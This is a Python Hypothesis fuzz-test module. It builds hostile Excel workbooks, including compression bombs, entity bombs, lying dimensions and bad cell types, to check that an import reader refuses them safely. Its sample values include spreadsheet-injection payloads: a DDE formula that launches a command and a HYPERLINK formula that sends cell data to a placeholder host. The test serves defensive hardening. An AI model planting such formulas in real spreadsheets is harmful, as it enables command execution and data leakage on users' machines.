"""Hypothesis strategies for hostile workbooks, and the loop a capped child process runs:
cells anywhere up to XFD1048576 (with or without their reference), declared dimensions
that lie, merged ranges by the thousand, formulas and values of the wrong type, sheets
padded to compress a thousand-fold. Every one must be read or refused — never crash the
reader, never leave it holding more memory than the child is allowed."""

from __future__ import annotations

import sys

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl.utils import get_column_letter as column_letters

from kiemdiem.safefiles import hostile

SHEETS = ("Tổ chức đảng", "Đảng viên", "Kỷ luật", "Kịch bản", "Tập thể", "Trang lạ")
HEADERS = (
    ["Số thẻ đảng viên", "Họ và tên", "Mã chi bộ", "Ngày vào Đảng"],
    ["Mã tổ chức", "Tên tổ chức", "Loại hình", "Tổ chức cấp trên (mã hoặc tên)"],
    ["id", "name", "organization", "facts.disciplines"],
)
TEXT = st.text(
    st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), max_size=40
)
VALUE = st.one_of(
    TEXT,
    st.sampled_from(["=1+1", '=HYPERLINK("http://x/?"&A1)', "+cmd|' /C calc'!A0", "@SUM(A1)"]),
    st.integers(-(10**30), 10**30),
    st.floats(allow_nan=True, allow_infinity=True),
    st.booleans(),
)
ROW = st.integers(1, 1_048_576)
COLUMN = st.integers(1, 16_384)


@st.composite
def cell_xml(draw: st.DrawFn, row: int) -> str:
    kind = draw(st.sampled_from(["ref", "ref", "ref", "noref", "formula", "badtype"]))
    value = draw(VALUE)
    ref = f"{column_letters(draw(COLUMN) if draw(st.booleans()) else draw(st.integers(1, 8)))}{row}"
    if kind == "noref":
        return f"<c><v>{hostile.escape(str(value))}</v></c>"
    if kind == "formula":
        return f'<c r="{ref}"><f>{hostile.escape(str(value))}</f><v>0</v></c>'
    if kind == "badtype":
        t = draw(st.sampled_from(["b", "n", "d", "e", "s", "zz"]))
        return f'<c r="{ref}" t="{t}"><v>{hostile.escape(str(value))}</v></c>'
    return hostile.cell(ref, value)


@st.composite
def sheet(draw: st.DrawFn) -> str:
    header = draw(st.sampled_from(HEADERS))
    body = hostile.row_xml(1, list(header))
    for _ in range(draw(st.integers(0, 6))):
        row = draw(ROW) if draw(st.booleans()) else draw(st.integers(2, 40))
        cells = "".join(draw(cell_xml(row)) for _ in range(draw(st.integers(0, 5))))
        body += f'<row r="{row}">{cells}</row>' if draw(st.booleans()) else f"<row>{cells}</row>"
    dimension = ""
    if draw(st.booleans()):
        dimension = f"A1:{column_letters(draw(COLUMN))}{draw(ROW)}"
    merged = [
        f"A{n}:{column_letters(draw(COLUMN))}{n + draw(st.integers(0, 10**6))}"
        for n in range(2, 2 + draw(st.sampled_from([0, 1, 3, 20_000])))
    ]
    return hostile.sheet_xml(body, dimension=dimension, merged=merged)


@st.composite
def workbook(draw: st.DrawFn) -> bytes:
    names = draw(st.lists(st.sampled_from(SHEETS), min_size=1, max_size=3, unique=True))
    body = hostile.workbook({name: draw(sheet()) for name in names})
    if draw(st.integers(0, 9)) == 0:  # now and then, a compression bomb
        return hostile.whitespace_bomb(
            names[0], list(HEADERS[0]), megabytes=draw(st.sampled_from([2, 64]))
        )
    if draw(st.integers(0, 9)) == 0:
        return hostile.entity_bomb(names[0])
    return body


def run(examples: int) -> None:
    """In the capped child: the import reader and the scenario reader on each workbook."""
    import django

    django.setup()
    import io

    from kiemdiem.apps.imports.reader import read_workbook
    from kiemdiem.rules.workbook import WorkbookError, from_xlsx

    @settings(
        max_examples=examples,
        deadline=None,
        database=None,
        derandomize=True,
        suppress_health_check=list(HealthCheck),
    )
    @given(body=workbook())
    def check(body: bytes) -> None:
        data, problems = read_workbook(io.BytesIO(body))
        assert isinstance(data, dict) and all(str(p) for p in problems)
        problems_found: list[object] = []
        try:
            from_xlsx(body)
        except WorkbookError as exc:
            problems_found = list(exc.problems)
            assert problems_found, "a refusal always says why"

    check()
    print("FUZZ-OK", examples)


if __name__ == "__main__":
    run(int(sys.argv[1]) if len(sys.argv) > 1 else 60)
